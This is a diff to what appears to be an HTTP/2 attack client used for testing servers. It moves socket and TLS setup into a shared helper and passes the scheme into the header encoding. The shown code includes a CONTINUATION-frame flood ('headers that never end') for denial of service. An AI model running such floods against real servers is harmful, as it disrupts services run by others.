@@ -1,8 +1,8 @@
 """As much of an HTTP/2 client as an attacker needs: requests on many streams at once, and floods of frames."""
 
-import socket
-import ssl
 import struct
+
+from http1 import connected
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
@@ -35,8 +35,8 @@ def header(name, value):
     return b"\0" + b"".join(number(len(text), 7) + text for text in (name.lower().encode(), value.encode()))
 
 
-def headers_of(request):
-    pseudo = [(":method", request.method), (":scheme", "http"), (":authority", "localhost"), (":path", request.path)]
+def headers_of(request, scheme):
+    pseudo = [(":method", request.method), (":scheme", scheme), (":authority", "localhost"), (":path", request.path)]
     named = [tuple(line.split(": ", 1)) for line in request.headers]
     return b"".join(header(name, value) for name, value in pseudo + named)
 
@@ -45,17 +45,8 @@ class Http2:
     """One connection. `ask` makes several requests at once and returns the status and length of each answer."""
 
     def __init__(self, address, source=None, tls=False):
-        family = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
-        self.socket = socket.socket(family, socket.SOCK_STREAM)
-        self.socket.settimeout(20)
-        if source:
-            self.socket.bind((source, 0))
-        self.socket.connect(address)
-        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
-        if tls:
-            context = ssl._create_unverified_context()
-            context.set_alpn_protocols(["h2"])
-            self.socket = context.wrap_socket(self.socket, server_hostname="localhost")
+        self.socket = connected(address, source, "h2", tls)
+        self.scheme = "https" if tls else "http"
         self.held = b""
         self.next_stream = 1
         # No table of headers to keep; windows as wide as they can be, as what the server may send is not what is tried here.
@@ -65,7 +56,7 @@ class Http2:
     def open(self, request):
         stream, self.next_stream = self.next_stream, self.next_stream + 2
         body = request.body
-        sent = frame(HEADERS, END_HEADERS | (0 if body else END_STREAM), stream, headers_of(request))
+        sent = frame(HEADERS, END_HEADERS | (0 if body else END_STREAM), stream, headers_of(request, self.scheme))
         return stream, sent + (frame(DATA, END_STREAM, stream, body) if body else b"")
 
     def ask(self, requests):
@@ -104,7 +95,7 @@ class Http2:
     def continue_for_ever(self, request):
         """Headers that never end."""
         stream, self.next_stream = self.next_stream, self.next_stream + 2
-        sent = frame(HEADERS, END_STREAM, stream, headers_of(request))
+        sent = frame(HEADERS, END_STREAM, stream, headers_of(request, self.scheme))
         more = header("x-more", "m" * 1000)
         self.flood(sent + frame(CONTINUATION, 0, stream, more) * 200)
 
